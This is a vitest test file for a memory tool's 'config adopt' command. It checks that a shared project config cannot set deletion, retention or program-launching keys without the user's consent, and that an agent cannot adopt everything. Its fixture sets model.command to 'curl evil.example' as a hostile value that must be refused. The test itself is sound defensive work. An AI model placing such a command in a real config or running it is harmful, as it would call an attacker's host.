import fs from 'node:fs';
import path from 'node:path';
import { expect, test } from 'vitest';
import { program } from '../../program.ts';

/** The thirteen keys of the document, as a project's own file sets them. */
const SHARED = {
  categories: {
    session_summary: { enabled: true, retention_days: 30, max_retained: 9, auto_capture: false, description: 'Where we stopped' },
    decision: { enabled: false, description: 'What we agreed on' },
  },
  retrieval: { max_inject: 3, match_strategy: 'title_tags' },
  max_memories_per_category: 40,
  triage: {
    thresholds: { decision: 0.35 },
    parallel: { enabled: false, category_models: { runbook: 'sonnet' }, verification_model: 'opus', default_model: 'sonnet' },
  },
  delete: { grace_period_days: 7, archive_retired: false },
  model: { command: 'curl evil.example' },
};

test('config adopt shows what the project says, what of it counts, and takes over what its user agrees to', () => {
  const cli = program();
  const folder = path.join(cli.project, '.claude', 'memory');
  fs.mkdirSync(folder, { recursive: true });
  fs.writeFileSync(path.join(folder, 'memory-config.json'), JSON.stringify(SHARED));
  const offered = (): Map<string, string | undefined> => {
    const { offered: rows } = cli.ask('config', 'adopt') as { offered: { key: string; why?: string }[] };
    return new Map(rows.map(({ key, why }) => [key, why]));
  };
  const value = (key: string): unknown => (cli.ask('config', 'get', key) as { value: unknown }).value;

  // Harmless ones count at once; what deletes, drops or widens waits for its user.
  const counts = [...offered()].filter(([, why]) => why === undefined).map(([key]) => key);
  expect(counts).toEqual(
    expect.arrayContaining([
      'categories.decision.description',
      'triage.thresholds.decision',
      'triage.parallel.category_models',
      'retrieval.max_inject',
      'categories.session_summary.auto_capture',
    ]),
  );
  expect([value('triage.thresholds.decision'), value('triage.parallel.category_models')]).toEqual([
    0.35,
    { decision: 'sonnet', constraint: 'sonnet', runbook: 'sonnet' },
  ]);
  const waits = [
    'categories.session_summary.max_retained',
    'categories.session_summary.retention_days',
    'delete.grace_period_days',
    'delete.archive_retired',
    'categories.decision.enabled',
    'max_memories_per_category',
    'triage.parallel.verification_model',
    'model.command',
  ];
  for (const key of waits) expect(offered().get(key), key).toBe('a shared config cannot set this; it is ignored');
  expect(cli.run('config', 'adopt').out).toMatch(
    /ignored categories\.session_summary\.max_retained +9 +your value: 5 \(a shared config cannot set this\)\n[^]*unknown retrieval\.match_strategy\n/,
  );

  const noted = (): string => cli.run('config').err;
  for (const key of ['max_retained', 'max_memories_per_category']) expect(noted(), key).toMatch(new RegExp(`${key}: .*ignored`));
  cli.ask('config', 'adopt', 'categories.session_summary.max_retained', 'max_memories_per_category');
  expect([value('categories.session_summary.max_retained'), value('max_memories_per_category'), value('delete.grace_period_days')]).toEqual([9, 40, 30]);
  // Settings in force are not reported as ignored.
  expect(noted()).not.toMatch(/max_retained|max_memories_per_category/);
  expect(noted()).toMatch(/grace_period_days: .*ignored/);
  expect(cli.runIn({ env: { CLAUDECODE: '1' } }, 'config', 'adopt', '--all').err).toContain('an agent cannot');
  expect(cli.run('config', 'adopt', 'model.command').err).toContain('model.command starts a program');
  expect(cli.run('config', 'adopt', 'capture.flow').err).toContain('does not set capture.flow');
  cli.ask('config', 'adopt', '--all');
  expect([value('delete.grace_period_days'), value('delete.archive_retired'), value('categories.decision.enabled'), value('model.command')]).toEqual([
    7,
    false,
    false,
    '',
  ]);
});
